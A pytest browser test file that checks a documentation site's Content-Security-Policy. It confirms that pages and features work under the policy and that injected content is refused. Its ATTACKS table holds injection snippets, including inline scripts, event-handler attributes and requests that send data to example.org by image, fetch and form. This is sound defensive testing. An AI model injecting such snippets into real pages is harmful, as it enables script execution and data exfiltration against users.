"""The Content-Security-Policy in a browser: no page offends it, all works under it, no more."""

from __future__ import annotations

import re
import subprocess
import sys

import lab_sample
import pytest
from test_serve import free_port, wait_for

pytestmark = pytest.mark.browser
CHAPTER, LAB = "foundations/vectors/", "labs/vectors/"
LISTEN = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => violations.push(
    `${event.effectiveDirective} refuses ${event.blockedURI} ${event.sample}`));
"""


def listening(visit, *arguments, **settings):
    tab = visit(*arguments, **settings)
    tab.page.add_init_script(LISTEN)
    tab.page.context.set_default_timeout(60_000)
    return tab


def violations(page) -> list[str]:
    page.wait_for_timeout(50)  # they are told in a task of their own
    return page.evaluate("violations")


def test_every_page_carries_a_policy_before_anything_that_loads(pages):
    for address, file in pages.items():
        text = file.read_text(encoding="utf-8")
        policy = text.index("Content-Security-Policy")
        first = re.search(r"<(?:script|style|link|img|body)\b", text)
        assert policy < first.start(), address
        assert text.index("<meta charset") < 1024 - 30, address


def test_no_page_does_what_its_policy_refuses(visit, pages):
    tab = listening(visit)
    problems = []
    for address in pages:
        page = tab.open(address)
        tab.unfold()
        page.mouse.wheel(0, 4000)
        problems += [f"/{address}: {violation}" for violation in violations(page)]
    assert not problems and not tab.complaints, "\n".join([*problems, *tab.complaints])


def test_search_and_colours_work_under_the_policy(visit):
    tab = listening(visit)
    page = tab.open(CHAPTER)
    tab.choose("slate")
    tab.choose("default")
    page.locator("[data-md-component=search-query]").click()
    page.keyboard.type("cosine similarity")
    page.locator(".md-search-result__meta", has_text="matching document").wait_for()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    page.wait_for_url(lambda url: "h=" in url)
    page.locator("article mark").first.wait_for(state="attached")
    assert not violations(page) and not tab.complaints


def test_run_edit_and_check_work_under_the_policy(visit):
    tab = listening(visit)
    page = tab.open(CHAPTER)
    page.locator("[data-live]:has(+ .language-output) button[data-action=run]").first.click()
    page.locator(".language-output[data-mine=yes]").first.wait_for()
    drawing = page.locator("[data-live]:has(+ p > img) button[data-action=run]").first
    drawing.click()
    page.locator("p > img[src^='blob:']").first.wait_for()
    assert page.locator("p > img[src^='blob:']").first.evaluate(
        "(image) => image.decode().then(() => image.naturalWidth)"
    )
    starter = page.locator("[data-role=starter]:not([data-still])").first
    starter.locator("button[data-action=edit]").click()
    editor = starter.locator(".cm-content")
    editor.wait_for()
    # Its own rules are there, though no <style> may be written into the page.
    assert editor.evaluate("(e) => getComputedStyle(e).whiteSpaceCollapse") == "preserve"
    assert page.locator("style").count() == 0
    starter.locator("button[data-action=check]").click()
    page.locator(".live-verdict").wait_for()
    assert not violations(page) and not tab.complaints


ADD = """const add = (name, properties) => {
    const made = Object.assign(document.createElement(name), properties);
    document.body.append(made);
    return made;
};"""
ATTACKS = {
    "script-src-elem": "add('script', {text: 'window.ran = 1'})",
    "script-src-attr": "document.body.setAttribute('onclick', 'ran = 1'); document.body.click()",
    "style-src-elem": "add('style', {textContent: 'p { color: red }'})",
    "style-src-attr": "document.body.setAttribute('style', 'color: red')",
    "img-src": "add('img', {src: 'https://example.org/?all=your+work'})",
    "connect-src": "fetch('https://example.org/', {method: 'POST', body: 'all'}).catch(() => 0)",
    "frame-src": "add('iframe', {src: 'https://example.org/'})",
    "base-uri": "add('base', {href: 'https://example.org/'})",
    "form-action": "add('form', {action: 'https://example.org/'}).submit()",
    "object-src": "add('object', {data: 'https://example.org/'})",
    "worker-src": "new Worker(URL.createObjectURL(new Blob(['1'], {type: 'text/javascript'})))",
}


@pytest.mark.parametrize("directive", ATTACKS)
def test_what_a_stranger_puts_into_the_page_is_refused(visit, directive):
    tab = listening(visit)
    page = tab.open("reference/glossary/")
    assert not violations(page)
    page.evaluate(f"() => {{ {ADD} {ATTACKS[directive]} }}")
    told = violations(page)
    assert told and told[0].startswith(directive), told
    assert page.evaluate("window.ran") is None


def test_text_does_not_become_javascript(visit):
    page = listening(visit).open("reference/glossary/")
    page.evaluate("setTimeout('window.ran = 1')")
    assert any("eval" in violation for violation in violations(page))
    assert page.evaluate("window.ran") is None


def test_without_the_policy_the_same_script_would_run(visit):
    """Or the test above would say nothing."""
    tab = visit(bypass_csp=True)
    page = tab.open("reference/glossary/")
    page.evaluate(
        "() => document.body.append(Object.assign(document.createElement('script'),"
        " {text: 'window.ran = 1'}))"
    )
    assert page.evaluate("window.ran") == 1


@pytest.mark.timeout(120)
def test_live_reload_works_under_the_policy_of_a_served_site(browser, tmp_path):
    root = lab_sample.make(tmp_path / "book")
    port = free_port()
    server = subprocess.Popen(
        [sys.executable, "-m", "press", "serve", "--port", str(port)],
        cwd=root, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    context = browser.new_context()
    try:
        wait_for("Twice a number", port, "/foundations/doubling/", server)
        page = context.new_page()
        page.add_init_script(LISTEN)
        page.goto(f"http://127.0.0.1:{port}/foundations/doubling/")
        assert page.evaluate("typeof livereload") == "function"
        assert not violations(page)
        assert "default-src 'none'" in page.content()
        chapter = root / "docs/foundations/doubling.md"
        text = chapter.read_text(encoding="utf-8")
        chapter.write_text(text.replace("can be doubled", "may be doubled"), encoding="utf-8")
        page.get_by_text("may be doubled").wait_for()
        page.wait_for_timeout(500)
        assert not page.evaluate("navigator.serviceWorker.controller")
        assert (
            page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)")
            == 0
        )
    finally:
        context.close()
        server.terminate()
        server.wait(timeout=20)
